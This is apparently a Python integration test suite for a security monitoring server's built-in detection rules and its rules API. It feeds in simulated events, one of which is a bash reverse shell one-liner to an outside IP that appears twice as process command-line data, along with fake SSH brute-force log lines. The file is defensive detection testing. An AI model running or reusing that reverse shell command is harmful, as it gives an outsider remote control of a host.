"""The built-in rules (rules/network, rules/endpoint) in the real vigild: every rule loads from
detect.rules_dir, and raw log lines sent over syslog (sshd, kernel iptables) and an endpoint event
posted through the API raise the alerts of the built-in rules with their levels: a reverse shell,
a suspicious service allowed by the firewall, an SSH brute force and the brute force followed by
a successful login (correlations), while the informational base rules that only feed
correlations raise none."""

import datetime
import os
import shutil
import socket
import sys
import time
import unittest
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import REPO, ServerTestCase, free_port  # noqa: E402

RULES_SRC = os.path.join(REPO, "rules")


def rule_ids():
    """title -> id of every built-in rule, and the number of rule documents."""
    ids, n = {}, 0
    for sub in ("network", "endpoint"):
        d = os.path.join(RULES_SRC, sub)
        for name in sorted(os.listdir(d)):
            if not name.endswith(".yml"):
                continue
            with open(os.path.join(d, name)) as f:
                for doc in f.read().split("\n---\n"):
                    title = rid = None
                    for line in doc.splitlines():
                        if line.startswith("title: "):
                            title = line[7:].strip()
                        elif line.startswith("id: "):
                            rid = line[4:].strip()
                    if title:
                        ids[title] = rid
                        n += 1
    return ids, n


def syslog_time(dt):
    return dt.strftime("%b ") + ("%2d" % dt.day) + dt.strftime(" %H:%M:%S")


def udp_send(port, msgs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for m in msgs:
        s.sendto(m.encode(), ("127.0.0.1", port))
        time.sleep(0.002)
    s.close()


class BuiltinRulesTest(ServerTestCase):
    udp = None

    @classmethod
    def setUpClass(cls):
        if not os.path.isdir(os.path.join(RULES_SRC, "network")):
            raise unittest.SkipTest("rules/ is missing")
        cls.rules_tmp = os.path.join("/tmp", "vigil-it-rules-" + uuid.uuid4().hex[:8])
        for sub in ("network", "endpoint"):
            shutil.copytree(os.path.join(RULES_SRC, sub), os.path.join(cls.rules_tmp, sub))
        cls.udp = free_port()
        cls.config_text = ("detect:\n  rules_dir: %s\nsyslog:\n  udp: 127.0.0.1:%d\n  flush_ms: 50\n"
                           "reduction:\n  merge: false\n" % (cls.rules_tmp, cls.udp))
        super().setUpClass()

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        shutil.rmtree(cls.rules_tmp, ignore_errors=True)

    def alerts(self, rule_id):
        r = self.server.request("GET", "/api/v1/alerts?rule=" + rule_id, token=self.token)
        self.assertEqual(r.status, 200, r)
        return r.json()["alerts"]

    def wait_alerts(self, rule_id, timeout=30.0):
        deadline = time.time() + timeout
        while time.time() < deadline:
            a = self.alerts(rule_id)
            if a:
                return a
            time.sleep(0.2)
        self.fail("no alert of rule %s" % rule_id)

    def test_1_all_rules_load(self):
        _, n = rule_ids()
        deadline = time.time() + 30
        while True:
            r = self.server.request("GET", "/api/v1/rules", token=self.token)
            self.assertEqual(r.status, 200, r)
            eng = r.json()["engine"]
            if (not eng["pending"] and eng["rules"] >= n) or time.time() > deadline:
                break
            time.sleep(0.2)
        self.assertEqual(eng["load_failures"], 0, eng)
        self.assertEqual(eng["rules"], n, eng)

    def test_endpoint_reverse_shell(self):
        ids, _ = rule_ids()
        ev = {"@timestamp": datetime.datetime.now(datetime.timezone.utc).isoformat(),
              "agent": {"id": "it-agent-web-01"}, "host": {"name": "srv-web-01"},
              "event": {"id": "ev-" + uuid.uuid4().hex, "category": "process", "type": "start",
                        "action": "exec"},
              "process": {"executable": "/usr/bin/bash", "pid": 4242,
                          "command_line": "bash -c 'bash -i >& /dev/tcp/91.240.118.172/443 0>&1'",
                          "parent": {"executable": "/usr/sbin/apache2"}},
              "user": {"name": "www-data"}}
        r = self.server.ingest(self.token, [ev])
        self.assertEqual(r.status, 200, r)
        a = self.wait_alerts(ids["Linux Reverse Shell Command Line"])
        self.assertEqual(a[0]["severity"], "high")
        a = self.wait_alerts(ids["Web Server Or Database Spawning A Shell"])
        self.assertEqual(a[0]["severity"], "high")

    def test_firewall_line_over_syslog(self):
        ids, _ = rule_ids()
        now = datetime.datetime.now()
        line = ("<4>%s fw-cityhall kernel: [FWD-ACCEPT] IN=eth1 OUT=eth0 SRC=10.20.7.12 DST=185.220.101.34 "
                "LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=1 DF PROTO=TCP SPT=40000 DPT=9001 WINDOW=29200 "
                "RES=0x00 SYN URGP=0" % syslog_time(now))
        udp_send(self.udp, [line])
        a = self.wait_alerts(ids["Suspicious Service Connection Allowed By The Firewall"])
        self.assertEqual(a[0]["severity"], "medium")
        a = self.wait_alerts(ids["Internal Host Connecting To A Tor Relay Or Proxy Port"])
        self.assertEqual(a[0]["severity"], "high")
        # the base rule of the burst correlation only feeds it
        self.assertEqual(self.alerts(
            ids["Internal Host Connection Attempt To A Suspicious Service On The Internet"]), [])

    def test_ssh_brute_force_then_success_over_syslog(self):
        ids, _ = rule_ids()
        t0 = datetime.datetime.now()
        ip = "173.234.31.%d" % (100 + os.getpid() % 100)
        lines = ["<38>%s srv-gis-01 sshd[%d]: Failed password for invalid user admin%d from %s port %d ssh2"
                 % (syslog_time(t0), 24200 + i, i, ip, 38920 + i) for i in range(6)]
        lines.append("<38>%s srv-gis-01 sshd[24300]: Accepted password for gis from %s port 39001 ssh2"
                     % (syslog_time(t0 + datetime.timedelta(seconds=1)), ip))
        udp_send(self.udp, lines[:6])
        bf = self.wait_alerts(ids["SSH Brute Force"])
        self.assertEqual(bf[0]["severity"], "medium")
        udp_send(self.udp, lines[6:])
        both = self.wait_alerts(ids["SSH Brute Force Followed By A Successful Login"])
        self.assertEqual(both[0]["severity"], "critical")
        # the informational base rules and the stage correlation raise nothing of their own
        for title in ("SSH Failed Password", "SSH Successful Login", "SSH Brute Force Stage"):
            self.assertEqual(self.alerts(ids[title]), [], title)

    # ---- the built-in rules in the rules API (read-only entries) ----

    def rules(self, query=""):
        r = self.server.request("GET", "/api/v1/rules" + query, token=self.token)
        self.assertEqual(r.status, 200, r)
        return r.json()

    def test_rules_list_shows_builtin_read_only(self):
        ids, n = rule_ids()
        lst = self.rules("?source=builtin&limit=1000")
        self.assertEqual(lst["total"], n)
        self.assertEqual(len(lst["rules"]), n)
        by_title = {x["title"]: x for x in lst["rules"]}
        rs = by_title["Linux Reverse Shell Command Line"]
        self.assertEqual(rs["id"], ids["Linux Reverse Shell Command Line"])
        self.assertEqual(rs["source"], "builtin")
        self.assertIsNone(rs["tenant"])
        self.assertTrue(rs["file"].startswith("endpoint/") and rs["file"].endswith(".yml"), rs)
        self.assertTrue(rs["enabled"] and rs["loaded"])
        self.assertEqual(rs["level"], "high")
        self.assertTrue(any(t.startswith("attack.t") for t in rs["tags"]), rs)
        # a rule stored through the API is listed first; the filter keeps one kind
        yaml = ("title: IT api rule\nid: it-api-rule-%s\nlevel: low\nlogsource: {product: linux}\n"
                "detection:\n  sel:\n    CommandLine|contains: it-api-marker\n  condition: sel\n"
                % uuid.uuid4().hex[:8])
        r = self.server.request("POST", "/api/v1/rules", yaml, token=self.token,
                                headers={"Content-Type": "application/yaml"})
        self.assertEqual(r.status, 201, r)
        api_id = r.json()["id"]
        api_only = self.rules("?source=api")["rules"]
        self.assertEqual([x["id"] for x in api_only], [api_id])
        self.assertEqual(api_only[0]["source"], "api")
        both = self.rules("?limit=1000")
        self.assertEqual(both["total"], n + 1)
        self.assertEqual(both["rules"][0]["id"], api_id)
        # paging runs across both kinds, without gaps or repeats
        seen = []
        for off in range(0, n + 1, 7):
            page = self.rules("?limit=7&offset=%d" % off)
            self.assertEqual(page["total"], n + 1)
            seen += [x["id"] + "|" + x["source"] for x in page["rules"]]
        self.assertEqual(seen, [x["id"] + "|" + x["source"] for x in both["rules"]])
        self.assertEqual(self.server.request("GET", "/api/v1/rules?source=nope", token=self.token).status, 400)
        # one rule by id
        r = self.server.request("GET", "/api/v1/rules/" + rs["id"], token=self.token)
        self.assertEqual(r.status, 200, r)
        self.assertEqual((r.json()["source"], r.json()["file"]), ("builtin", rs["file"]))
        self.assertEqual(self.server.request("GET", "/api/v1/rules/" + api_id, token=self.token).json()["source"], "api")
        self.assertEqual(self.server.request("GET", "/api/v1/rules/no-such-rule", token=self.token).status, 404)
        # writes to a built-in rule are refused; a missing rule stays 404
        r = self.server.request("PATCH", "/api/v1/rules/" + rs["id"], {"enabled": False}, token=self.token)
        self.assertEqual(r.status, 409, r)
        self.assertIn("read-only", r.json()["error"])
        self.assertEqual(self.server.request("DELETE", "/api/v1/rules/" + rs["id"], token=self.token).status, 409)
        self.assertEqual(self.server.request("PATCH", "/api/v1/rules/no-such-rule", {"enabled": False},
                                             token=self.token).status, 404)
        self.assertEqual(self.server.request("DELETE", "/api/v1/rules/" + api_id, token=self.token).status, 200)

    def test_exception_on_builtin_rule(self):
        ids, _ = rule_ids()
        rid = ids["Linux Reverse Shell Command Line"]
        tag = uuid.uuid4().hex[:8]
        r = self.server.request("POST", "/api/v1/rules/%s/exceptions" % rid,
                                {"conditions": {"host.name": "srv-exc-" + tag}, "reason": "lab host"},
                                token=self.token)
        self.assertEqual(r.status, 201, r)

        def shell(host):
            return {"@timestamp": datetime.datetime.now(datetime.timezone.utc).isoformat(),
                    "agent": {"id": "it-agent-" + host}, "host": {"name": host},
                    "event": {"id": "ev-" + uuid.uuid4().hex, "category": "process", "type": "start",
                              "action": "exec"},
                    "process": {"executable": "/usr/bin/bash", "pid": 4343,
                                "command_line": "bash -c 'bash -i >& /dev/tcp/91.240.118.172/443 0>&1'"},
                    "user": {"name": "root"}}

        # the excepted host first, then another one in a later batch: once the other's alert is
        # there, the excepted event has been evaluated
        self.assertEqual(self.server.ingest(self.token, [shell("srv-exc-" + tag)]).status, 200)
        self.assertEqual(self.server.ingest(self.token, [shell("srv-other-" + tag)]).status, 200)
        deadline = time.time() + 30
        while time.time() < deadline:
            got = self.alerts(rid + "&host=srv-other-" + tag)
            if got:
                break
            time.sleep(0.2)
        self.assertTrue(got, "no alert for the host without an exception")
        self.assertEqual(self.alerts(rid + "&host=srv-exc-" + tag), [])
        lst = self.server.request("GET", "/api/v1/rules/%s/exceptions" % rid, token=self.token).json()
        self.assertEqual(lst["hits"], 1, lst)


if __name__ == "__main__":
    unittest.main()
